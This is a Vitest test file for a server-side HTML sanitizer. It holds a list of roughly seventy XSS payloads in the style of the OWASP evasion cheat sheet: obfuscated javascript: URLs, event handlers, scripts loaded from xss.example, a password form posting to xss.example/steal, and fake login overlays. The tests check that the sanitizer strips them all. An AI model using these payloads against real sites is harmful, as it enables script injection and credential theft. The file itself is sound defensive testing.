// @vitest-environment happy-dom
import { describe, expect, it } from "vitest";

import { htmlToText, sanitizeHtml } from "./sanitize.server";

/**
 * XSS payloads of the kinds in OWASP's XSS Filter Evasion Cheat Sheet: script tags, event
 * handlers, javascript:/vbscript:/data: URLs (plain, encoded, obfuscated), SVG and MathML,
 * frames and plugins, style-based attacks and overlays, malformed tags, meta refresh, forms,
 * base tags, srcdoc, DOM clobbering.
 */
const payloads = [
  // Script tags
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `<script type="module">import("https://xss.example/x.js")</script>`,
  `<ScRiPt>window.__xss = 1</sCrIpT>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>`,
  // Event handlers
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<body onload=alert(1)>`,
  `<p onmouseover="alert(1)">hover</p>`,
  `<div/onclick=alert(1)>click</div>`,
  `<a href="https://example.com" onclick="alert(1)">link</a>`,
  `<details open ontoggle=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<img """><script>alert("XSS")</script>">`,
  `<img src="x" alt="y" ONERROR =alert(1)>`,
  // javascript:, vbscript: and data: URLs, plain and obfuscated
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="jav&#x0A;ascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<a href="\\\\xss.example/phish">x</a>`,
  `<a href="//xss.example/phish">x</a>`,
  // SVG and MathML
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  // Frames, plugins, srcdoc
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="https://xss.example/xss.swf">`,
  `<frameset><frame src="javascript:alert(1)"></frameset>`,
  // Styles: script in CSS, overlays over the page
  `<div style="background-image: url(javascript:alert(1))">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:white">Fake login</div>`,
  `<p class="fixed inset-0 z-50 bg-white">Fake overlay with the site's own utilities</p>`,
  `<style>body{display:none}</style>`,
  `<link rel="stylesheet" href="https://xss.example/xss.css">`,
  `<STYLE>@import'https://xss.example/xss.css';</STYLE>`,
  // Meta refresh, base, forms, DOM clobbering
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<meta http-equiv="refresh" content="0; url=https://xss.example/">`,
  `<base href="https://xss.example/">`,
  `<form action="https://xss.example/steal"><input name="password" type="password"><button>Log in</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<img name="cookie" id="getElementById" src="/x.png">`,
  // Malformed and mutation-prone markup
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<a href="https://example.com/" target="_blank" rel="opener">tabnabbing</a>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
];

const allowedTags = new Set([
  "P",
  "BR",
  "HR",
  "H2",
  "H3",
  "H4",
  "H5",
  "H6",
  "STRONG",
  "B",
  "EM",
  "I",
  "U",
  "S",
  "DEL",
  "INS",
  "MARK",
  "SMALL",
  "SUB",
  "SUP",
  "ABBR",
  "SPAN",
  "BLOCKQUOTE",
  "Q",
  "CITE",
  "CODE",
  "PRE",
  "KBD",
  "UL",
  "OL",
  "LI",
  "DL",
  "DT",
  "DD",
  "A",
  "IMG",
  "FIGURE",
  "FIGCAPTION",
  "TABLE",
  "CAPTION",
  "THEAD",
  "TBODY",
  "TFOOT",
  "TR",
  "TH",
  "TD",
]);
const allowedAttributes = new Set([
  "href",
  "rel",
  "title",
  "src",
  "alt",
  "width",
  "height",
  "loading",
  "scope",
  "colspan",
  "rowspan",
  "start",
  "reversed",
]);

/** Every problem the browser would see when rendering `html`, parsed as the DOM parses it. */
function survivors(html: string): string[] {
  const problems: string[] = [];
  const text = html.toLowerCase();
  for (const marker of ["<script", "<iframe", "<object", "<embed", "<svg", "<math", "<style"]) {
    if (text.includes(marker)) problems.push(`contains ${marker}`);
  }
  for (const marker of ["<meta", "<base", "<form", "<link", "<frame", "srcdoc", "style="]) {
    if (text.includes(marker)) problems.push(`contains ${marker}`);
  }
  if (/\son\w+\s*=/i.test(html)) problems.push("event handler attribute");

  const template = document.createElement("template");
  template.innerHTML = html;
  for (const element of template.content.querySelectorAll("*")) {
    if (!allowedTags.has(element.tagName)) problems.push(`tag ${element.tagName}`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (!allowedAttributes.has(name)) problems.push(`attribute ${name} on ${element.tagName}`);
      if (name === "href" || name === "src") {
        const value = attribute.value.trim();
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value)?.[1]?.toLowerCase();
        const allowed = name === "src" ? ["http", "https"] : ["http", "https", "mailto", "tel"];
        if (scheme ? !allowed.includes(scheme) : /^[/\\]{2}/.test(value)) {
          problems.push(`${name}=${value}`);
        }
      }
    }
  }
  return problems;
}

describe("sanitizeHtml against XSS payloads", () => {
  it("has a corpus of at least 40 payloads", () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40);
  });

  it.each(payloads)("leaves nothing dangerous of %s", (payload) => {
    const clean = sanitizeHtml(payload);
    expect(survivors(clean)).toEqual([]);
    // Sanitizing is stable: cleaning the output again changes nothing (no mutation).
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  it("keeps no executable URL anywhere in the output", () => {
    const all = payloads.map(sanitizeHtml).join("\n");
    expect(all).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(all).not.toMatch(/<(script|iframe|object|embed|svg|math|style|meta|base|form)/i);
  });
});

describe("sanitizeHtml keeps content", () => {
  it("keeps formatting, lists and safe links", () => {
    const html =
      '<p>Guides <strong>returns</strong> and <em>refunds</em>.</p><ul><li>One</li></ul><a href="/pricing">Pricing</a>';
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('marks external links rel="noopener noreferrer nofollow" and replaces an author rel', () => {
    expect(sanitizeHtml('<a href="https://example.com/x" rel="opener">x</a>')).toBe(
      '<a href="https://example.com/x" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizeHtml('<a href="/contact" rel="opener">x</a>')).toBe('<a href="/contact">x</a>');
  });

  it("keeps mailto and tel links", () => {
    expect(sanitizeHtml('<a href="mailto:a@b.example">m</a>')).toBe(
      '<a href="mailto:a@b.example">m</a>',
    );
  });

  it("turns h1 into h2 (the page has its own h1) and lazy-loads images", () => {
    expect(sanitizeHtml("<h1>Title</h1>")).toBe("<h2>Title</h2>");
    expect(sanitizeHtml('<img src="https://cdn.example/a.png" alt="A">')).toBe(
      '<img src="https://cdn.example/a.png" alt="A" loading="lazy" />',
    );
  });

  it("keeps the text of unknown harmless tags and drops script contents", () => {
    expect(sanitizeHtml("<section><p>kept</p></section><script>gone()</script>")).toBe(
      "<p>kept</p>",
    );
  });
});

describe("htmlToText", () => {
  it("gives the visible text with words apart and entities decoded", () => {
    expect(htmlToText("<p>A &amp; B &lt;tag&gt;</p><p>Next&nbsp;one</p><ul><li>x</li></ul>")).toBe(
      "A & B <tag> Next one x",
    );
  });

  it("drops scripts and styles with their content", () => {
    expect(htmlToText("<style>p{}</style><script>alert(1)</script><p>ok</p>")).toBe("ok");
  });

  it("keeps plain text as it is", () => {
    expect(htmlToText("Just text")).toBe("Just text");
  });
});
